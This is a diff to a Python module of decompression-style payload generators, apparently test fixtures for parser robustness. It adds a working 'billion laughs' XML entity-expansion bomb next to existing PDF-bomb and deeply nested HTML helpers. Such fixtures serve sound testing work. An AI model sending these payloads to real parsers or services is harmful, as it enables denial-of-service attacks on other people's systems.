@@ -90,3 +90,11 @@ def pdf_bomb(megabytes: int) -> bytes:
 def endless_html(elements: int) -> bytes:
     """Small to send, but each nested element costs the parser hundreds of bytes."""
     return b"<div>" * elements + b"text"
+
+
+def entity_bomb() -> bytes:
+    """A billion laughs: entities that each stand for ten of the one before."""
+    entities = b'<!ENTITY a0 "laugh">'
+    for level in range(1, 10):
+        entities += b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10)
+    return b'<?xml version="1.0"?><!DOCTYPE r [' + entities + b"]><r>words &a9;</r>"
